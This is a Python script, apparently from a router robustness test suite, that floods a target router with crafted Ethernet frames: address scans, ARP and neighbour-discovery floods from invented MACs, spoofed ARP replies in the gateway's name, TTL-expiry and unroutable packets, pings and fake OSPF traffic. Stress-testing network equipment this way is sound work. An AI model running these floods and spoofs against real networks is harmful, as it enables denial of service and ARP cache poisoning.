#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""A machine that wants to harm a router, or others by way of it.

  flood.py IF ROUTER-MAC WEAPON SECONDS [RATE]   until then; says how many frames it sent

  scan4, scan6     packets for addresses of a /8, of a /64 where nobody is
  arp, nd          requests for the gateway from addresses and machines that do not exist
  lies             ARP in the gateway's name, in that of addresses elsewhere, in that of nobody
  ttl, nowhere     packets that end here, packets that a route refuses: errors are owed
  ping             the gateway
  routing          what looks like a routing protocol's
"""
import os
import random
import socket
import struct
import sys

sys.path.insert(1, os.path.dirname(sys.path[0]))  # packets.py

import pace
from packets import ARP, BROADCAST, ICMP, ICMP6, IP4, IP6, UDP, arp, echo, icmp4, icmp6, ip4, ip6, mac, udp

ME, ME6 = '10.1.0.66', '2001:db8:1::66'
MY_MAC = '02:00:00:00:00:66'


def someone():
    return f'02:66:{random.randrange(1 << 32):08x}'[:5] + ''.join(f':{random.randrange(256):02x}' for _ in range(4))


def scan4():
    dst = f'11.{random.randrange(1, 255)}.{random.randrange(256)}.{random.randrange(1, 255)}'
    return IP4, ip4(ME, dst, UDP, udp(ME, dst)), None


def scan6():
    dst = f'2001:db8:2::{random.randrange(1, 65536):x}:{random.randrange(1, 65536):x}'
    return IP6, ip6(ME6, dst, UDP, udp(ME6, dst)), None


def request():
    return ARP, arp(1, someone(), f'10.1.0.{random.randrange(3, 255)}', '10.1.0.1'), BROADCAST


def solicitation():
    src = f'2001:db8:1::{random.randrange(3, 65536):x}:{random.randrange(65536):x}'
    body = bytes(4) + socket.inet_pton(socket.AF_INET6, '2001:db8:1::1') + b'\1\1' + mac(someone())
    return IP6, ip6(src, 'ff02::1:ff00:1', ICMP6, icmp6(src, 'ff02::1:ff00:1', 135, 0, body), hops=255), '33:33:ff:00:00:01'


def lie():
    """To the router alone: what a neighbour makes of a broadcast lie is his."""
    whose = random.choice(('10.1.0.1', '11.0.0.2', f'10.1.0.{random.randrange(3, 255)}'))
    return ARP, arp(random.choice((1, 2)), someone(), whose, random.choice((whose, '10.1.0.1'))), None


def packet(**how):
    def make():
        dst = how.get('dst', '11.0.0.2')
        return IP4, ip4(ME, dst, how.get('proto', UDP), how.get('payload') or udp(ME, dst), ttl=how.get('ttl', 64)), how.get('to')
    return make


WEAPONS = {'scan4': scan4, 'scan6': scan6, 'arp': request, 'nd': solicitation, 'lies': lie, 'ttl': packet(ttl=1),
           'nowhere': packet(dst='10.66.1.1'), 'ping': packet(dst='10.1.0.1', proto=ICMP, payload=icmp4(8, 0, echo())),
           'routing': packet(dst='224.0.0.5', proto=89, payload=bytes(44), to='01:00:5e:00:00:05')}


def main(device, router, weapon, seconds, rate='15000'):
    frames = []
    for _ in range(2000):
        kind, body, to = WEAPONS[weapon]()
        frames.append((mac(to or router) + mac(MY_MAC) + struct.pack('!H', kind) + body).ljust(60, b'\0'))
    print('ready', flush=True)
    n = pace.send(device, frames, float(rate), float(seconds))
    print(f'{n} frames of {weapon}')


main(*sys.argv[1:])
